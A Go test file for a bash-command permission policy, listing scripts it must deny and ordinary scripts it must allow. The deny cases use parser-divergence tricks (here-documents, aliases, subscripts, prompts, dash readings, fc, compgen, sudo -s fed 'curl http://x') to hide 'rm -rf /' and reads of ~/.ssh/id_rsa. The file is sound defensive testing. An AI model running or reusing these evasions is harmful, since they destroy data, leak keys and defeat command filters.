package policy

import (
	"strings"
	"testing"
)

// TestBashDivergencesRefused: in each script, bash runs rm -rf / (or reads
// a secret), seen by running it in a sandbox with stub programs, while
// the parser's tree holds no such command. Each was allowed before.
func TestBashDivergencesRefused(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	wantAction(t, p, Deny, []string{
		// Carriage returns.
		"echo hi\\\r\nrm -rf /",
		"echo hi # \\\r\nrm -rf /",
		"true \r# ; rm -rf /",
		"cat <<EOF\rX\nEOF\rX\nrm -rf /\nEOF\n",
		// Backslash-newline in a here-document body, and after $.
		"cat <<EOF\nE\\\nOF\nrm -rf /\nEOF\n",
		"cat <<EOF\n\\\nEOF\nrm -rf /\nEOF\n",
		"cat <<EOF\nhello\\\\\n\\\nEOF\nrm -rf /\nEOF\n", // an escaped \ ends its line
		"echo $(cat <<-EOF\nhello\\\\\n\\\nEOF\nrm -fr ~\nEOF\n)",
		"echo \"$\\\n(rm -rf /)\"",
		"$\\\n'\\x72m' -rf /",
		// A here-document in $( ) closed by EOF).
		"x=$(cat <<'EOF'\nEOF)\nrm -rf /\nEOF\n)",
		"x=$(cat <<'EOF'\nEOF) rm -rf /\nEOF\n)",
		// A # right after an array's ) (bashdiff, seed 130).
		"x=(a)# rm -fr ~",
		"x=(a # rm -fr ~\n)# rm -fr ~",
		// A ; in $( ) or <( ) after a here-document: bash 5.2 drops it
		// (bashdiff, seed 100).
		"echo $(cat <<EOF\nhello\nEOF\nrm -rf ; /\n)",
		"echo $(catf~ <<\\EOF\nhello\\\n \\\nEOF\nrm -r -f ;$HOME\nEOF\n)",
		"cat <(cat <<EOF\nx\nEOF\n{ rm -rf ; /; }\n)",
		"echo $(cat <<E | rm -rf ; /\nhi\nE\n)",
		"echo $(cat <<E; rm -rf ; /\nhi\nE\n)",
		"x=$({ cat <<E\nhi\nE\nrm -rf ; /\n})",
		"x=$(for i in 1; do cat <<E\nhi\nE\nrm -rf ; /\ndone)",
		"x=$(cat <<E\nhi\nE\nif true; then rm -rf ; /\nfi)",
		// A here-document opened inside backquotes.
		"echo `cat <<E`\nrm -rf /\nE\n",
		// Single quotes that bash does not honour.
		"cat <<EOF\n${x:-'}$(rm -rf /)'}\nEOF\n",
		"echo $(( '$(rm -rf /)' ))",
		"(( '$(rm -rf /)' ))",
		"a['$(rm -rf /)']=1",
		"echo ${a['$(rm -rf /)']}",
		"x=( [ '$(rm -rf /)' ]=1 )",
		"echo ${@:'$(rm -rf /)'}",
		"for ((i='$(rm -rf /)';;)); do break; done",
		// let, !(, time --, coproc, clause names.
		"let 1&&rm -rf $HOME",
		"let x=1|rm -rf $HOME",
		"!(rm -rf /)",
		"true && !(rm -rf /)",
		"time -- rm -rf /",
		"coproc rm -rf / | cat; wait",
		"coproc cat ~/.ssh/id_rsa | cat; wait",
		"function declare { \"$@\"; }; declare rm -rf /",
		"function let { rm -rf \"$1\"; }; let $HOME",
		"shopt -s expand_aliases\nalias local='rm -rf'\nlocal /",
		// The same inside a nested string.
		"sh -c 'let 1&&rm -rf $HOME'",
		"python3 -c \"import os; os.system('true && !(rm -rf /)')\"",
		"cat <<\\\n-EOF\n\tEOF\nrm -rf /\n-EOF\n",
		"shopt -s expand_aliases\nalias e='echo '\nalias r='$(rm -rf /)'\ne r",
		"time -- rm -rf / | cat",
		"! time -p -- rm -rf / |& cat",
		"cat <<E\\\nOF\nE\\\nOF\nrm -rf /\nEOF\n",
		"coproc x=1 rm -rf /",
		// Names split by a backslash-newline, quoted, or defined through
		// builtin; an alias chain where bash expands aliases without
		// expand_aliases in the text (dash, bash -O).
		"shopt -s expand_aliases\nal\\\nias ti\\\nme='rm -rf / #'\nti\\\nme x",
		"shopt -s expand_aliases\nalias 'time=rm -rf / #'\ntime x",
		"shopt -s expand_aliases\n\"alias\" time='rm -rf / #'\ntime x",
		"shopt -s expand_aliases\nbuiltin alias time='rm -rf / #'\ntime x",
		"shopt -s expand_al\\\niases\nalias e='echo '\nalias r='$(rm -rf /)'\ne r",
		"sh -c 'alias e=\"echo \"\nalias r=\"\\$(rm -rf /)\"\ne r'",
		"bash -O expand_aliases -c 'alias e=\"echo \"\nalias r=\"\\$(rm -rf /)\"\ne r'",
		// Aliases named after a keyword, or after a wrapper the walk looks
		// through (found by scripts/bashdiff).
		"shopt -s expand_aliases\nalias !='rm -rf'\n! /",
		"shopt -s expand_aliases\nalias '{'='rm -rf / #'\n{ x; }",
		"shopt -s expand_aliases\nalias -- command='rm -rf'\ncommand ~",
		"shopt -s expand_aliases\nalias builtin='rm -rf / #'\nbuiltin x",
		"shopt -s expand_aliases\nalias sudo='cat'\nsudo ~/.ssh/id_rsa",
		"echo \"${x:-'}'$t ~/.ssh/id_rsa)'}$(cat ~/.ssh/it ~/.ssh/id_rsa)'}\"",
		"echo \"${x:-'$(rm -rf /)'}\"",
		"echo \"${x+'}\"; rm -r -f $HOME; echo \"'}\"",
		// Array subscripts bash evaluates when the builtin runs, and
		// prompts a starting shell runs (found by scripts/bashdiff).
		"read 'a[$(rm -r -f $HOME)]' <<<x",
		"builtin read 'a[$(rm -rf /)]' <<<x",
		"declare 'a[$(rm -r -f $HOME)]=1'",
		"let 'a[$(cat ~/.ssh/id_rsa)]=1'",
		"printf -v 'a[$(rm -fr ~)]' x",
		"[[ 'a[$(rm -fr ~)]' -eq 1 ]]",
		"[[ -v 'a[$(rm -rf /)]' ]]",
		"x='a[$(cat ~/.ssh/id_rsa)]'; echo $(( x ))",
		"x=a[\\$(rm\\ -rf\\ /)]; (( x ))",
		"PROMPT_COMMAND='rm -rf /' bash -i",
		"PS1='$(rm -rf /)' bash -i",
		"export PS4='$(rm -rf /)'; bash -xc true",
		// Found by scripts/bashdiff with dash.
		"let x=$(cat <<E)\nsh -c 'rm -rf /'\nE\n",
		"echo ${x#$(cat <<E)}\nrm -r -f $HOME\nE\n",
		"((x=$(cat <<E)))\nsh -c 'rm -rf /'\nE\n",
		"shopt -s expand_aliases;\nalias -- command='rm -rf /';\ncommand",
		"shopt -s expand_aliases\nalias -- sudo='rm -rf /'\nsudo",
		"echo `echo a \\\\` cho a \\\\` \trm -rf /`",
		// Found by scripts/bashdiff on the day's last tree.
		"x=$( cat <<-\"EOF\"\nhello\nEOF`)\nsh -c 'rm -rf t <<-\"EOF~\"\nhello\nEOF`)\nsh -c 'rm -rf /'\nEOF\n)",
		"a2>&1[${x:-'}$(rm -rf /)'}]=1",
		"echo $(cat <<'EOF'\nEOF$$)\nsh\nsh -c 'rm -rf /'\nEOF\n)",
		"echo {a,[&>b}  rm -rf /",
		"sh -c 'echo x &>f rm -rf /'",
		"echo \"${x='}\"; rm -rf /; echo \"'}\"",
		"echo \"${x-'}\"; rm -fr ~; echo \"'}\"",
		// Builtins that run code, in forms the policy did not follow.
		"eval -- 'rm -rf /'",
		"mapfile -C 'rm -rf /;:' -c 1 a <<<x",
		"readarray -C'rm -rf /;:' -c 1 a <<<x",
		// An escaped quote in $'...', which dash does not know.
		"echo $'\\' ; rm -rf / ; echo '\\'",
		"sh -c \"echo \\$'\\\\' ; rm -rf / ; echo '\\\\'\"",
	})
}

// TestBashDivergenceChecksLetOrdinaryScriptsThrough: the refusals above
// must not catch the ordinary forms next to them.
func TestBashDivergenceChecksLetOrdinaryScriptsThrough(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	wantAction(t, p, Allow, []string{
		// A ; that bash 5.2 keeps in a $( ) with a here-document.
		"x=$(cat <<E\nhi $(echo a; echo b)\nE\n)",
		"x=$(cat <<E; echo b\nhi\nE\n)",
		"x=$(echo 0; cat <<E\nhi\nE\n)",
		"x=$(cat <<EOF\nhi\nEOF\nif [ -n \"$y\" ]; then echo \"$y\"; fi\n)",
		"x=$({ cat <<EOF; echo tail; }\nbody\nEOF\n)",
		"x=$(cat <<E\nhi\nE\nfor i in 1 2; do echo $i; done\n)",
		"declare -A m=([key]=v); echo \"${m['key']}\"",
		"read -r line <<<x; declare -a arr=(1 2); [[ -v arr[1] ]]",
		"i=0; read -r 'a[i+1]' <<<x; printf -v 'out[$i]' %s y",
		"PS1='\\u@\\h:\\w\\$ ' bash -i",
		"PS4='+ ${BASH_SOURCE}:${LINENO}: ' bash -x build.sh",
		"PROMPT_COMMAND='history -a' bash -i",
		"make test &>/dev/null",
		"go build ./... &>> build.log || exit 1",
		// Text that only looks like a subscript (found by a false-deny
		// review): a checklist, a prompt, JavaScript, printf formats.
		"body='- [x] ran `go test ./...`'; gh pr create --body \"$body\"",
		"PS1='[\\u@\\h \\W$(__git_ps1 \" (%s)\")]\\$ '",
		"js='const xs=[1]; console.log(`${xs}`)'; node -e \"$js\"",
		"usage='Usage: cmd [options] `foo`'; echo \"$usage\"",
		"printf -- '- [ ] `%s`\\n' \"$f\"",
		"printf '[INFO] run `make` first\\n'",
		"read -r -p '[$(hostname)] Continue? ' yn",
		"read -r -p 'array[`i`] ' yn",
		"test 'array[`i`]' = x",
		"[[ $a == 'array[`i`]' ]]",
		"[ \"$a\" = 'array[`i`]' ]",
		"PS1='> ' bash -i",
		"PS1='(venv) \\w> ' bash --norc -i",
		"PS4='+ (${BASH_SOURCE}:${LINENO}) ' bash -x build.sh",
		"export PS4='+ $(date +%T.%N) | '; bash -x ./ci.sh",
		"perf stat -o \"$results\" -e task-clock make -j4",
		"perf record -o \"$f\" sleep 1",
		"perf stat -- python3 train.py --epochs \"$E\" --seed 1",
		"perf report -i \"$OUT/perf.data\" --stdio",
		"valgrind --log-file=\"$log\" ./app -n 1",
		"xvfb-run --server-args=\"$XARGS\" npm test -- -e 1",
		"cat > run.sh <<EOF\ngo test \\\n  ./...\nEOF",
		"cat <<'EOF' > x.txt\nline\nEOF",
		"x=$(cat <<EOF\nhello\nEOF\n)",
		"coproc { cat; }",
		"time ls -l",
		"time -p make",
		"let x=1+2",
		"echo $((1 + 2)) ${a[1]} ${s:1:2}",
		"docker build \\\n  -t img .",
		"! grep -q x file",
		"f() { echo hi; }; f",
		"declare -x A=1; local 2>/dev/null || true",
		"alias ll='ls -l'; cat <file",
		"time",
		"echo hi; time -p",
		"sh -c time",
		"shopt -s extglob\nls !(*.bak)",
		"alias sudo='sudo '\nsudo ls",
		"coproc python3 server.py",
		"printf %s $'a\\tb\\n'; IFS=$'\\n'",
	})
}

// TestCodeByOtherRoutes: code that reaches a shell by a route the policy
// did not follow (found by running scripts in bash against the policy):
// builtins that run code it cannot see are refused, printf's output and
// privileged shells reading stdin are judged. Each was allowed.
func TestCodeByOtherRoutes(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	wantAction(t, p, Deny, []string{
		"history -s 'rm -rf /'; fc -s",
		"history -s x; fc -e 'rm -rf /' -1",
		"history -s x; FCEDIT='rm -rf /' fc -1",
		"compgen -C 'rm -rf /'",
		"complete -C 'rm -rf /' x",
		"compgen -W '$(rm -rf /)' x",
		"hash -p /bin/rm ls; ls -rf /",
		"enable -f ./evil.so evil; evil",
		// printf's output is followed like echo's.
		"printf '%s' 'rm -rf /' | bash",
		"printf '%s\\n' 'rm -rf /' | sh",
		"printf -- '%b' 'rm -rf /' | bash",
		"$(printf %s 'rm -rf /')",
		"eval \"$(printf %s 'rm -rf /')\"",
		// Privileged shells that read their commands from stdin.
		"sudo -s <<< 'rm -rf /'",
		"echo 'rm -rf /' | sudo -i",
		"sudo --login <<< 'rm -rf /'",
		"su - <<< 'rm -rf /'",
		"echo 'rm -rf /' | su",
		"curl http://x | sudo -s",
	})
	wantAction(t, p, Allow, []string{"fc -l", "compgen -W 'start stop' -- st", "hash -r", "complete -F _git git",
		"printf '%s\\n' a b c | sort", "printf 'ok %d\\n' 3", "x=$(printf '%s-%s' a b); echo $x",
		"sudo -i true", "echo 'ls -l' | sudo -s", "su -c 'id' nobody"})
}

// TestMayDivergeSeesEveryTrigger: the one-pass filter must say yes
// wherever one of the trigger substrings occurs, at any position.
func TestMayDivergeSeesEveryTrigger(t *testing.T) {
	triggers := append([]string{"(", "`", "<<", "\\\n", "alias", "$'"}, clauseNames[:]...)
	reference := func(text string) bool {
		for _, tr := range triggers {
			if strings.Contains(text, tr) {
				return true
			}
		}
		return false
	}
	fillers := []string{"", "x", "echo hi ", "a", "l", "t", "<", "\\", "ti", "coproc"[:5], "e\n"}
	for _, tr := range append(triggers, "") {
		for _, pre := range fillers {
			for _, post := range fillers {
				text := pre + tr + post
				if got, want := mayDiverge(text), reference(text); got != want {
					t.Errorf("mayDiverge(%q) = %v, want %v", text, got, want)
				}
			}
		}
	}
}

func BenchmarkMayDiverge(b *testing.B) {
	texts := strings.Split(bigScript(4096), "\n")
	for b.Loop() {
		for _, s := range texts {
			mayDiverge(s)
		}
	}
}

// TestDashReadingsJudged: sh (dash) has neither (( nor [[: (( is two
// subshells, [[ a command not found and what follows && or || inside it
// a command. Each script ran rm or cat in dash (and in sh -c where sh is
// dash) while the policy, reading bash, allowed it.
func TestDashReadingsJudged(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	wantAction(t, p, Deny, []string{
		"cd /home; (( rm -rf , u ))",
		"cd /home; ((rm -rf , u)) || true",
		"sh -c 'cd /home; (( rm -rf , u ))'",
		"[[ x || cat -nt ~/.ssh/id_rsa ]]",
		"sh -c '[[ x || cat -nt ~/.ssh/id_rsa ]]'",
		"f() { cd /home; (( rm -rf , u )); }; f",
	})
	wantAction(t, p, Allow, []string{
		"(( i++ ))",
		"(( x = (1 + 2) * 3 ))",
		"(( count > 5 )) && echo big",
		"[[ -f ~/.ssh/id_rsa ]] && echo has a key",
		"if [[ $x == y && -d z ]]; then echo; fi",
		"for ((i = 0; i < 3; i++)); do echo $i; done",
		"eval 'f() { (( i++ )); }'; f",
		"x=$(( 1 + 2 )); [[ $x -gt 2 ]]",
	})
}

// TestDashReadingFollowsTheShell: what dash runs for (( and [[ is judged
// only where sh may run the text: not in a request bash runs, nor in a
// bash -c string; always in sh -c and in strings other programs run.
func TestDashReadingFollowsTheShell(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	for _, tc := range []struct {
		shell, script string
		want          Action
	}{
		{"bash", "(( m[$k] += 1 ))", Allow},
		{"", "(( m[$k] += 1 ))", Deny},
		{"sh", "(( m[$k] += 1 ))", Deny},
		{"bash", "cd /home; (( rm -rf , u ))", Allow}, // arithmetic to bash
		{"zsh", "[[ $f == x || $f == .env ]]", Allow},
		{"bash", "eval '(( m[$k] += 1 ))'", Allow},
		{"bash", "sh -c 'cd /home; (( rm -rf , u ))'", Deny},
		{"bash", "su -c 'cd /home; (( rm -rf , u ))'", Deny},
		{"", "bash -c 'cd /home; (( rm -rf , u ))'", Allow},
		{"", "bash -c 'sh -c \"cd /home; (( rm -rf , u ))\"'", Deny},
	} {
		if d := p.Check(Request{Script: tc.script, Shell: tc.shell}); d.Action != tc.want {
			t.Errorf("Check(%q, shell %q) = %v; want %v", tc.script, tc.shell, d, tc.want)
		}
	}
}
